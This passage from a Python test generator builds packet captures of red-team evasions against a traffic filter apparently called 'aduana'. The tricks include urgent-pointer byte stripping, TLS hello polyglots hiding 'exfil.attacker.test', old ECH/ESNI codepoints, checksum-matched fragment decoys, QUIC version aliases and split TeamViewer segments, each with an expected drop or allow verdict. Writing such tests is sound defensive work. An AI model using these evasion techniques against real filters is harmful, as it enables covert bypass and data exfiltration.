    SYN was an "ambiguous" exception the office allows, passed and never read: the
    watch's first payload was the next one. Now the SYN is dropped with its data, and a
    SYN-ACK that acknowledges that data refuses the flow. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49218, SOC, 80, isn=49218 * 7, rtt_us=20000)
    req0 = _rtk_vk_req(n)
    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7), (34, prand(n + "cookie", 8))]
    t.raw(True, "S", req0, options=opts)
    t.cseq += 1 + len(req0)
    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
    t.sseq += 1
    t.ack(True)
    _vk_answer(t, n)
    for i in range(1, 5):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_tfo_cut_vk(n):
    """(Red team, second round) TCP Fast Open, the SYN carrying "GET /0 HTTP/1.1\\r\\nHo"
    (a head cut inside its Host line), the next segment "st: www.example.org ..."; then
    24 GETs for www.example.org and one for m.vk.com. The watch's first payload is the
    second segment, which starts no request: FLOW_HW_ON is never set. Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49219, SOC, 80, isn=49219 * 7, rtt_us=20000)
    req0 = b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
    k = len(b"GET /0 HTTP/1.1\r\nHo")
    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7), (34, prand(n + "cookie", 8))]
    t.raw(True, "S", req0[:k], options=opts)
    t.cseq += 1 + k
    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
    t.sseq += 1
    t.data(True, req0[k:])
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    for i in range(1, 25):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_early_h2c_vk(n):
    """(Red team, second round) The flow's first request (www.example.org) asks "Upgrade:
    h2c" with HTTP2-Settings, and the client waits for the 101 (curl --http2 does) before
    it sends the preface: Apache mod_http2 (Protocols h2c http/1.1) upgrades. Then a
    HEADERS frame on stream 3 for m.vk.com. Before the verdict judge_http_more hands
    requests to the classifier (judge_req_frame), which does not look for h2c; the slot's
    reader (judge_http_head) checks for a preface right behind the head only. Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49220, SOC, 80, isn=49220 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\nConnection: Upgrade, HTTP2-Settings\r\n"
           b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n")
    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b""))
    t.data(True, h2_frame(1, 5, 3, h2_hb(b"m.vk.com", leak(n))))
    t.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n) + prand(n + "h2", 100)))
    t.close()
    return cap, {"leak": [leak(n)]}


# --- red team round 3 (this session): urgent pointers on bare ACKs, ECH drafts at a
# shared front, name spelling. Ports 46000-46999 (e2m), 49300-49399 (office).

def rt3_urg_ack(t, off):
    """A bare ACK with URG whose urgent pointer names the byte `off` bytes past the
    sender's next byte (Linux without tcp_stdurg: seq + urg_ptr - 1, tcp_check_urg).
    No payload: a duplicate ACK to the peer."""
    t.raw(True, "AU", b"", tcpkw={"urgptr": off + 1})


def rt3_front_polyglot(seed, mark_sid=None):
    """A ClientHello stream S that aduana's strict reader takes for portal.customs.example
    (two handshake records), and that a Linux server reads, with the byte at urg_off taken
    out, as a hello for exfil.attacker.test (three records). Returns (S, urg_off, rest)
    where rest is what aduana reads after the hello (an early-data record of 7 bytes
    whose body is one byte and then a ChangeCipherSpec record: to the server, that CCS)."""
    c = 8                                    # the server's second record: 8 content bytes
    sni_evil = rt25_sni(EVIL)                # 28 bytes
    sni_front = rt25_sni(FRONT_NAME)         # 31 bytes
    L_E1 = 203
    k = 14 + c                               # E0 (session_ticket) body
    e0_pre = prand(seed + "e0a", 4)          # E0 body bytes before the boundary
    # E0 body from the record boundary on: C (= c), c content bytes, the server's R3
    # header (filled in below), 4 more bytes
    e1_body_head = prand(seed + "e1h", 2)
    F_len = (L_E1 - 2 - len(sni_evil) - 4) + len(sni_front) + 6
    e1_body = (e1_body_head + sni_evil + struct.pack("!HH", 0x0015, F_len)
               + b"\x00" * (L_E1 - 2 - len(sni_evil) - 4))
    assert len(e1_body) == L_E1
    prefix_exts = std_exts(seed) + [alpn_ext()]
    sid = mark_sid if mark_sid is not None else prand(seed + "s", 32)

    def build(r3hdr):
        e0_body = e0_pre + bytes([c]) + prand(seed + "e0c", c) + r3hdr + prand(seed + "e0z", 4)
        assert len(e0_body) == k
        exts = prefix_exts + [ext(0x0023, e0_body), ext(0x0015, e1_body), sni_front]
        eb = b"".join(exts)
        body = (b"\x03\x03" + prand(seed + "r", 32) + b"\x20" + sid + struct.pack("!H", len(CIPHERS))
                + CIPHERS + b"\x01\x00" + struct.pack("!H", len(eb)) + eb)
        hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
        n1 = hs.find(e0_body) + 4            # the record boundary: E0 body byte 4 (= c)
        return hs, n1

    hs, n1 = build(b"\x16\x03\x01\x00\x00")
    T = len(hs)
    assert (T - n1) % 256 == 0 and T - n1 == 256, (T, n1)
    L3 = T - n1 - c
    hs, n1b = build(b"\x16\x03\x01" + struct.pack("!H", L3))
    assert n1b == n1 and len(hs) == T
    S = record(22, hs[:n1]) + b"\x16\x03\x01\x01\x00" + hs[n1:]
    urg_off = 5 + n1 + 3                     # the high byte of the second record's length
    rest = b"\x17\x03\x03\x00\x07" + b"\x00" + CCS
    return S + rest, urg_off


def rt3_read_hellos(stream, strip=None):
    """A lenient reader (OpenSSL's order: records of type 22 joined, then the hello's
    fields and extensions) over stream, the byte at strip taken out. Returns (sni, end)."""
    if strip is not None:
        stream = stream[:strip] + stream[strip + 1:]
    i, msg, need = 0, b"", None
    while need is None or len(msg) < need:
        assert stream[i] == 22 and stream[i + 1] == 3, stream[i:i + 5].hex()
        ln = struct.unpack("!H", stream[i + 3:i + 5])[0]
        msg += stream[i + 5:i + 5 + ln]
        i += 5 + ln
        if need is None and len(msg) >= 4:
            need = 4 + int.from_bytes(msg[1:4], "big")
    assert len(msg) == need and msg[0] == 1
    p = 4 + 2 + 32
    p += 1 + msg[p]
    p += 2 + struct.unpack("!H", msg[p:p + 2])[0]
    p += 1 + msg[p]
    el = struct.unpack("!H", msg[p:p + 2])[0]
    p += 2
    assert p + el == need
    sni, seen = None, set()
    while p < need:
        et, ln = struct.unpack("!HH", msg[p:p + 4])
        assert et not in seen
        seen.add(et)
        if et == 0:
            nl = struct.unpack("!H", msg[p + 7:p + 9])[0]
            assert struct.unpack("!H", msg[p + 4:p + 6])[0] == ln - 2 and nl == ln - 5
            sni = msg[p + 9:p + 9 + nl].decode()
        p += 4 + ln
    assert p == need
    return sni, i


@case
def case_rt3_urg_ack_front(n):
    """(Red team round 3) The shared front: the client's third handshake ACK is followed by
    a bare duplicate ACK with URG whose urgent pointer names a byte of the hello to come
    (the high byte of its second record's length). Linux takes an urgent pointer from any
    segment, a bare ACK too (tcp_rcv_established slow path: tcp_urg, tcp_check_urg), and
    takes the urgent byte out of the stream when it arrives in a later segment without URG
    (tcp_urg fetches it; tcp_recvmsg skips it unless SO_OOBINLINE, which nginx and OpenSSL
    do not set). aduana looks at URG only on segments with bytes (judge_tcp: a bare ACK is
    TCP_GO before the URG test), and reads all of them. The hello is a polyglot: read whole,
    two records naming portal.customs.example (strictly valid); read without that byte, its
    second record is 8 bytes long, a third record header follows inside the session_ticket
    extension, and the extensions, shifted by 6 bytes, name exfil.attacker.test (the front
    serves that site); the 6 bytes past aduana's hello (an early-data record header and one
    byte) end the server's hello, and both framings meet again at the client's
    ChangeCipherSpec. Must drop: the outer name proves nothing once the stream is not the
    one the front reads (fix: refuse URG on any segment of a flow with a slot or a check,
    bare or not)."""
    S, urg = rt3_front_polyglot(n, mark_sid=sid32(leak(n)))
    assert rt3_read_hellos(S)[0] == FRONT_NAME
    assert rt3_read_hellos(S, strip=urg)[0] == EVIL
    cap = Capture()
    t = ETcp(cap, S1, 46951, FRONT, 443, isn=46951 * 3, rtt_us=20000)
    t.handshake()
    rt3_urg_ack(t, urg)
    t.send(True, S)
    t.ack(False)
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt3_urg_ack_front_ctl(n):
    """(Red team round 3) Control for rt3_urg_ack_front: the same polyglot stream without
    the URG bare ACK. Both readers see portal.customs.example (the record split and the
    early-data record are what a client may send), so it is allowed: the bypass is the
    urgent pointer alone."""
    S, urg = rt3_front_polyglot(n)
    cap = Capture()
    t = ETcp(cap, S1, 46952, FRONT, 443, isn=46952 * 3, rtt_us=20000)
    t.handshake()
    t.send(True, S)
    t.ack(False)
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt3_urg_ack_host_vk(n):
    """(Red team round 3) Office HTTP: after the handshake a bare ACK with URG whose urgent
    pointer names the "x" of "Host: m.vkx.com" in the request to come; the request itself
    carries no URG. Linux (nginx, no SO_OOBINLINE) takes the urgent byte out of the stream
    when it arrives (tcp_urg, tcp_recvmsg), and serves Host: m.vk.com; aduana reads
    m.vkx.com (no class) and allows. rtk_urg_vk is refused only because its URG rides the
    data segment. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49300, SOC, 80, isn=49300 * 3, rtt_us=20000)
    t.handshake()
    pre = b"GET /feed HTTP/1.1\r\nHost: m.vk"
    req = pre + b"x.com\r\nUser-Agent: Mozilla/5.0\r\nX-Mark: " + leak(n) + b"\r\nAccept: */*\r\n\r\n"
    rt3_urg_ack(t, len(pre))
    t.data(True, req)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt3_urg_ack_e2m(n):
    """(Red team round 3) Strict zone, after the allow: a bare ACK with URG naming the first
    byte of the client's next record header, then that record (no URG) and plaintext HTTP
    behind it. The server (Linux) reads the stream without that byte: its record layer is
    one byte off from aduana's, which frames the rest as records. Whatever the server
    makes of it, the check no longer reads the stream the server reads. Must drop."""
    cap = Capture()
    t = tls_established(cap, S1, 46953, E2M, 46953 * 3, n)
    rt3_urg_ack(t, 0)
    body = leak(n) + b" POST /x HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n"
    t.data(True, record(23, body, 0x0303))
    t.data(False, tls_appdata(n + "r2", 100))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt3_urgptr_noflag_ok(n):
    """(Red team round 3, honest twin) A genuine e2m session whose client segments, bare
    ACKs and data, carry a non-zero urgent pointer field with URG clear (left over by the
    sender's stack; RFC 9293: the field is read only with URG, and Linux ignores it). Must
    allow: a fix for rt3_urg_ack_* must look at the flag, not the field."""
    cap = Capture()
    t = ETcp(cap, S1, 46954, E2M, 443, isn=46954 * 3, rtt_us=20000)
    t.handshake()
    t.raw(True, "A", b"", tcpkw={"urgptr": 7})
    h = hello(n)
    t.raw(True, "PA", h, tcpkw={"urgptr": 7})
    t.cseq += len(h)
    t.ack(False)
    t.data(False, server_hello_flight(n))
    d = CCS + tls_appdata(n + "fin", 53)
    t.raw(True, "PA", d, tcpkw={"urgptr": 3})
    t.cseq += len(d)
    d = marked_record(passm(n), n + "req")
    t.raw(True, "PA", d, tcpkw={"urgptr": 3})
    t.cseq += len(d)
    t.ack(False)
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"pass": [passm(n)]}


def rt3_front_ext_flow(n, cport, extra, marker):
    cap = Capture()
    tls_flow(cap, S1, cport, FRONT, cport * 3, n,
             send_whole(hello(n, sni=FRONT_NAME, sid=sid32(marker) if marker.startswith(b"LEAK") else None,
                              extra=extra)), marker)
    return cap


@case
def case_rt3_esni_front(n):
    """(Red team round 3) The shared front, with the pre-ECH "encrypted_server_name"
    extension (0xffce, draft-ietf-tls-esni-01..06: cipher suite, key share, record digest,
    encrypted SNI) beside the outer server_name portal.customs.example. A front that
    implements it (Cloudflare served ESNI 2018-2020, Firefox 64-84 sent it) serves the
    encrypted name; aduana knows only 0xfe0d as ECH (tls.c), so the outer name is judged
    and allowed. Must drop (exception:ech at a shared front)."""
    esni = (struct.pack("!H", 0x1301) + struct.pack("!HH", 29, 32) + prand(n + "ks", 32)
            + struct.pack("!H", 32) + prand(n + "dg", 32) + struct.pack("!H", 148) + prand(n + "es", 148))
    return rt3_front_ext_flow(n, 46960, [ext(0xFFCE, esni)], leak(n)), {"leak": [leak(n)]}


@case
def case_rt3_ech_d10_front(n):
    """(Red team round 3) The shared front, with encrypted_client_hello under the codepoint
    of draft-ietf-tls-esni-10 (0xfe0a; drafts 9 to 12 had 0xfe09..0xfe0c, each deployed in
    interop builds of BoringSSL, NSS and Cloudflare's front), outer name
    portal.customs.example. A front that still speaks that draft decrypts the inner hello
    and serves its name. aduana sets has_ech for 0xfe0d only. Must drop."""
    ech = (struct.pack("!HH", 1, 1) + b"\x2a" + struct.pack("!H", 32) + prand(n + "enc", 32)
           + struct.pack("!H", 144) + prand(n + "ech", 144))
    return rt3_front_ext_flow(n, 46961, [ext(0xFE0A, ech)], leak(n)), {"leak": [leak(n)]}


@case
def case_rt3_front_exts_ok(n):
    """(Red team round 3, honest twin) The shared front with the extensions Chrome, Firefox
    and Safari send beside the name: status_request, renegotiation_info (0xff01),
    session_ticket, extended_master_secret, compress_certificate, ALPS (0x4469, 0x44cd),
    record_size_limit, delegated_credentials, psk modes, signed_certificate_timestamp and
    two GREASE types. None hides a name: must allow (a fix that treats every 0xfe/0xff
    codepoint as ECH would refuse 0xff01)."""
    extra = [ext(5, b"\x01\x00\x00\x00\x00"), ext(0xFF01, b"\x00"), ext(35, b""), ext(23, b""),
             ext(27, b"\x02\x00\x02"), ext(0x4469, b"\x00\x03\x02h2"), ext(0x44CD, b"\x00\x03\x02h2"),
             ext(28, b"\x40\x01"), ext(34, b"\x00\x08\x04\x03\x05\x03\x06\x03\x02\x03"),
             ext(45, b"\x01\x01"), ext(18, b""), ext(0x0A0A, b""), ext(0x4A4A, b"\x00")]
    return rt3_front_ext_flow(n, 46962, extra, passm(n)), {"pass": [passm(n)]}


@case
def case_rt3_sni_upper_ok(n):
    """(Red team round 3, honest) SNI "E2M.Customs.Example": names are case-insensitive
    (RFC 6066 3, RFC 4343); nginx lowercases before matching. Must allow."""
    cap = Capture()
    tls_flow(cap, S1, 46970, E2M, 46970 * 3, n, send_whole(hello(n, sni="E2M.Customs.Example")), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_rt3_sni_suffix_nodot(n):
    """(Red team round 3) SNI "xe2m.customs.example": ends like the endpoint's names but is
    neither e2m.customs.example nor under *.e2m.customs.example (no dot before e2m). Must
    drop (no endpoint matches)."""
    cap = Capture()
    tls_flow(cap, S1, 46971, E2M, 46971 * 3, n,
             send_whole(hello(n, sni="xe2m.customs.example", sid=sid32(leak(n)))), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_rt3_sni_wild_bare(n):
    """(Red team round 3) SNI "customs.example": the parent of the endpoint's names, which
    neither e2m.customs.example nor *.e2m.customs.example covers. Must drop."""
    cap = Capture()
    tls_flow(cap, S1, 46972, E2M, 46972 * 3, n,
             send_whole(hello(n, sni="customs.example", sid=sid32(leak(n)))), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_rt3_compress_deflate_ok(n):
    """(Red team round 3, honest) A TLS 1.2 client built with zlib (OpenSSL 1.0.x) offers
    compression methods [deflate, null]; the server picks null. Must allow."""
    h = hs_client_hello(n)
    i = h.find(CIPHERS) + len(CIPHERS)
    assert h[i:i + 2] == b"\x01\x00"
    body = h[4:i] + b"\x02\x01\x00" + h[i + 2:]
    m = b"\x01" + struct.pack("!I", len(body))[1:] + body
    cap = Capture()
    tls_flow(cap, S1, 46973, E2M, 46973 * 3, n, send_whole(record(22, m)), passm(n))
    return cap, {"pass": [passm(n)]}


# --- red team round 4 (office zone, fragments)

def _rt4_sum16(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def _rt4_same_sum(decoy, real, pos):
    """decoy with the 6 bytes at pos (even) rewritten, letters and digits, so that its
    one's-complement sum equals real's: a TCP checksum right for one is right for
    the other (same header, same length)."""
    assert len(decoy) == len(real) and pos % 2 == 0
    base = _rt4_sum16(decoy[:pos] + b"\0" * 6 + decoy[pos + 6:])
    need = (_rt4_sum16(real) - base) % 0xFFFF
    alnum = b"abcdefghijklmnopqrstuvwxyz0123456789"
    for a in alnum:
        for b in alnum:
            for c in alnum:
                w1, w2 = a << 8 | b, c << 8 | c
                w3 = (need - w1 - w2) % 0xFFFF
                if (w3 >> 8) in alnum and (w3 & 0xFF) in alnum:
                    out = decoy[:pos] + struct.pack("!HHH", w1, w2, w3) + decoy[pos + 6:]
                    assert _rt4_sum16(out) % 0xFFFF == _rt4_sum16(real) % 0xFFFF
                    return out
    raise AssertionError("no printable compensation")


def _rt4_decoy_pair(n, real):
    """A decoy head as long as real, the same first 20 bytes, Host www.example.org, and
    the same one's-complement sum."""
    decoy = _decoy_for(real)
    assert decoy[:20] == real[:20]
    pos = decoy.index(b"X-Pad: ") + 8
    pos += pos % 2
    return _rt4_same_sum(decoy, real, pos)


def _rt4_frag_frames(t, payload, cut, ident, v6=False):
    """The client's segment (at t.cseq) as two fragments cut at IP payload offset cut:
    (first, second) scapy packets without L2."""
    ipc = IPv6 if v6 else IP
    pkt = ipc(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=t.cseq,
                                       ack=t.sseq, window=64240) / Raw(payload)
    l4 = bytes(ipc(bytes(pkt)).payload)
    out = []
    for a, b, more in ((0, cut, 1), (cut, len(l4), 0)):
        if v6:
            f = IPv6(src=t.c, dst=t.s) / IPv6ExtHdrFragment(nh=6, offset=a // 8, m=more, id=ident) / Raw(l4[a:b])
        else:
            f = IP(src=t.c, dst=t.s, id=ident, proto=6, flags="MF" if more else 0, frag=a // 8) / Raw(l4[a:b])
        out.append(f)
    return l4, out


def _rt4_frag_l2_insert(n, cport, decoy_l2, v6=False):
    """Office HTTP, four requests for www.example.org answered, then the fifth request
    (m.vk.com) in two fragments whose second carries the Host line. Its first copy of
    the second fragment is a decoy (Host www.example.org, same TCP checksum) sent in a
    frame the next hop never takes (decoy_l2 rewrites its Ethernet header); then the
    real second fragment and the first fragment again."""
    cap = Capture()
    c, s = (O6, SOC6) if v6 else (O1, SOC)
    t = ETcp(cap, c, cport, s, 80, isn=cport * 7, rtt_us=20000)
    t.handshake()
    for i in range(4):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i)
        body = prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    real = _rtk_vk_req(n)
    decoy = _rt4_decoy_pair(n, real)
    ident = 0x7A11
    l4r, (f1, f2r) = _rt4_frag_frames(t, real, 40, ident, v6)
    l4d, (f1d, f2d) = _rt4_frag_frames(t, decoy, 40, ident, v6)
    # the same TCP header, checksum included: right for both
    assert l4r[:40] == l4d[:40]
    cap.emit(l2(c, s) / f1, 10000)
    cap.emit(decoy_l2(l2(c, s)) / f2d, 100)
    cap.emit(l2(c, s) / f2r, 30000)
    cap.emit(l2(c, s) / f1, 100)
    t.cseq += len(real)
    t.ack(False)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


def _rt4_l2_other(e):
    e.dst = "02:de:ad:be:ef:01"
    return e


def _rt4_l2_bcast(e):
    e.dst = "ff:ff:ff:ff:ff:ff"
    return e


def _rt4_l2_vlan(e):
    from scapy.layers.l2 import Dot1Q
    return Ether(src=e.src, dst=e.dst) / Dot1Q(vlan=200)


@case
def case_rt4_frag4_l2other_vk(n):
    """(Red team round 4, office) After four answered requests, the fifth (Host m.vk.com)
    in two IPv4 fragments, the Host line in the second. Its second fragment is first sent
    as a decoy (Host www.example.org, bytes chosen so that the TCP checksum in the first
    fragment is right for both) to another unicast MAC: the gateway's NIC leaves that frame
    on the wire, so Linux there holds the first fragment alone. The real second fragment
    and the first again follow: the server's stack joins the held first fragment (the
    repeat is a duplicate, RFC 791/Linux IPFRAG_DUP) with the real second one and nginx
    serves m.vk.com. aduana keeps only the first fragment's Ethernet header for the
    rebuilt datagram, so the decoy is read as if the server had it, and the real copy is a
    retransmission of bytes already read. Must drop (social)."""
    return _rt4_frag_l2_insert(n, 49400, _rt4_l2_other)


@case
def case_rt4_frag4_l2bcast_vk(n):
    """(Red team round 4, office) rt4_frag4_l2other_vk with the decoy fragment in a
    broadcast frame: a router forwards no unicast datagram that came in a broadcast frame
    (Linux ip_forward: skb->pkt_type != PACKET_HOST is dropped), and a host's IP layer
    drops it too (ip_rcv_finish_core / ip_route_input: RTN_UNICAST to a
    PACKET_BROADCAST frame). Must drop (social)."""
    return _rt4_frag_l2_insert(n, 49401, _rt4_l2_bcast)


@case
def case_rt4_frag4_vlan_vk(n):
    """(Red team round 4, office) rt4_frag4_l2other_vk with the decoy fragment tagged for
    VLAN 200, which the gateway does not carry on this link (its NIC or bridge drops the
    tagged frame). Must drop (social)."""
    return _rt4_frag_l2_insert(n, 49402, _rt4_l2_vlan)


@case
def case_rt4_frag6_l2other_vk(n):
    """(Red team round 4, office) rt4_frag4_l2other_vk over IPv6 (the office's
    2001:db8:20::/48): the decoy second fragment to another unicast MAC. Must drop
    (social)."""
    return _rt4_frag_l2_insert(n, 49403, _rt4_l2_other, v6=True)


@case
def case_rt4_frag4_resend_ok(n):
    """(Red team round 4, office) Must-allow twin: after four answered requests a fifth
    for www.example.org in two IPv4 fragments, both to the gateway's MAC; the second
    fragment is lost before us, so the client's TCP sends the whole segment again in two
    new fragments (the first fragment thus twice, with the same IP id: Linux keeps the
    first copy). Must pass."""
    cap = Capture()
    t = ETcp(cap, O1, 49404, SOC, 80, isn=49404 * 7, rtt_us=20000)
    t.handshake()
    for i in range(4):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i)
        body = prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    real = b"GET /x HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
    l4, (f1, f2) = _rt4_frag_frames(t, real, 40, 0x7A12)
    cap.emit(l2(O1, SOC) / f1, 10000)
    cap.emit(l2(O1, SOC) / f1, 300000)
    cap.emit(l2(O1, SOC) / f2, 100)
    t.cseq += len(real)
    t.ack(False)
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt4_frag4_l2other_tls_vk(n):
    """(Red team round 4, office) The first payload: a ClientHello for m.vk.com in one TCP
    segment sent as two IPv4 fragments cut before the session id, so the server_name is in
    the second. That second fragment is first sent as a decoy naming ex.a.org (its session
    id's last bytes chosen so that the TCP checksum in the first fragment is right for
    both) to another unicast MAC, which the gateway never takes; then the real second
    fragment and the first fragment again (Linux joins the real one with the first it
    holds; the repeat is a duplicate). OpenSSL at the server reads m.vk.com. Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49405, SOC, 443, isn=49405 * 7, rtt_us=20000)
    t.handshake()
    real = hello(n, sni=VK, sid=sid32(leak(n)))
    decoy = hello(n, sni="ex.a.org", sid=sid32(b"decoy"))
    assert len(real) == len(decoy) and real[:44] == decoy[:44]
    pos = 44 + 28
    base = _rt4_sum16(decoy[:pos] + b"\0\0" + decoy[pos + 2:])
    w = (_rt4_sum16(real) - base) % 0xFFFF
    decoy = decoy[:pos] + struct.pack("!H", w) + decoy[pos + 2:]
    assert _rt4_sum16(decoy) % 0xFFFF == _rt4_sum16(real) % 0xFFFF
    l4r, (f1, f2r) = _rt4_frag_frames(t, real, 56, 0x7A13)
    l4d, (f1d, f2d) = _rt4_frag_frames(t, decoy, 56, 0x7A13)
    assert l4r[:56] == l4d[:56]
    cap.emit(l2(O1, SOC) / f1, 10000)
    cap.emit(_rt4_l2_other(l2(O1, SOC)) / f2d, 100)
    cap.emit(l2(O1, SOC) / f2r, 30000)
    cap.emit(l2(O1, SOC) / f1, 100)
    t.cseq += len(real)
    t.ack(False)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt4_quic_fbalias_fb(n):
    """(Red team round 4, office) QUIC to www.facebook.com under version 0xfaceb003, mvfst's
    QUIC_V1_ALIAS: QUIC v1's wire image, salt and labels under Facebook's own version
    number, which Facebook's edge (mvfst) accepts and its apps offer. aduana's reader
    knows v1, v2 and draft 29 only and leaves the flow to nDPI 4.2, whose version list
    (mvfst 22, 27, experimental) lacks it. The Initial is one ordinary v1 Initial but for
    its version field. Must drop (social)."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    d = _q_protect(dcid, scid, 0, quic_crypto_frame(0, m), QUIC_V1_SALT, b"quic", 0xC0, 0xFACEB003)
    quic_flow(cap, n, 49406, [d])
    return cap, {"leak": [leak(n)]}


@case
def case_rt4_quic_mvfst_exp_fb(n):
    """(Red team round 4, office) The same under 0xfaceb00e (mvfst's MVFST_EXPERIMENTAL,
    v1 salt and labels in current mvfst). nDPI 4.2 lists this number but derives its keys
    from an older draft's salt. Must drop (social)."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    d = _q_protect(dcid, scid, 0, quic_crypto_frame(0, m), QUIC_V1_SALT, b"quic", 0xC0, 0xFACEB00E)
    quic_flow(cap, n, 49407, [d])
    return cap, {"leak": [leak(n)]}


def _rt4_tv_session(n, cport, split):
    """TeamViewer on its fallback port 443 (TeamViewer tries 5938, then 443 and 80): the
    client's and the router's first messages (nDPI's teamviewer.pcap heads, client 17 24,
    server 11 30), then ten more exchanges; the last client messages carry the marker.
    split: every client message cut after its first byte (0x17 | 0x24 ...); the router
    reads a byte stream, so the session goes on."""
    from gen_classes import teamviewer_msgs
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 443, isn=0x4A000 + cport % 1000, rtt_us=20000)
    t.handshake()
    msgs = list(teamviewer_msgs(n))
    for i in range(10):
        msgs.append((True, bytes.fromhex("17243c2907") + bytes([i]) + prand(n + "cm%d" % i, 60)))
        msgs.append((False, bytes.fromhex("11303c0070") + bytes([i]) + prand(n + "sm%d" % i, 90)))
    msgs.append((True, bytes.fromhex("17243c2907ff") + leak(n) + prand(n + "cl", 60)))
    msgs.append((False, bytes.fromhex("11303c0070ff") + leak(n) + prand(n + "sl", 60)))
    for from_c, p in msgs:
        if from_c and split:
            t.data(True, p[:1])
            t.data(True, p[1:])
        else:
            t.data(from_c, p)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt4_ra_tv_split(n):
    """(Red team round 4, office) TeamViewer on port 443, each client message in two
    segments, its first byte alone: nDPI 4.2's TeamViewer dissector wants 17 24 at the
    start of a segment of more than 2 bytes (and, off port 5938, four such messages);
    remote_access.sig has no TeamViewer line, so the joined first 64 bytes
    (cls_take_joined) match nothing either. The office gives up and allows. Must drop
    (remote_access)."""
    return _rt4_tv_session(n, 49408, True)


@case
def case_rt4_ra_tv_ctl(n):
    """(Red team round 4, office) Control: the same TeamViewer session on 443, whole
    messages: nDPI names TeamViewer at the fourth message. Must drop (remote_access)."""
    return _rt4_tv_session(n, 49409, False)


def _rt4_http_one(n, cport, head):
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 80, isn=cport * 7, rtt_us=20000)
    t.handshake()
    t.data(True, head)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt4_host_upper_vk(n):
    """(Red team round 4, office) The first request's header "hOST: M.VK.COM": field names
    are case-insensitive (RFC 9110 5.1) and nginx lowercases the host before matching
    server_name (ngx_http_validate_host). Must drop (social)."""
    return _rt4_http_one(n, 49410, b"GET /feed HTTP/1.1\r\nhOST: M.VK.COM\r\nX-Mark: " + leak(n) + b"\r\n\r\n")


@case
def case_rt4_host_upper_late_vk(n):
    """(Red team round 4, office) After four answered requests for www.example.org, a fifth
    with "HOST: M.Vk.Com" (judge_http_more). Must drop (social)."""
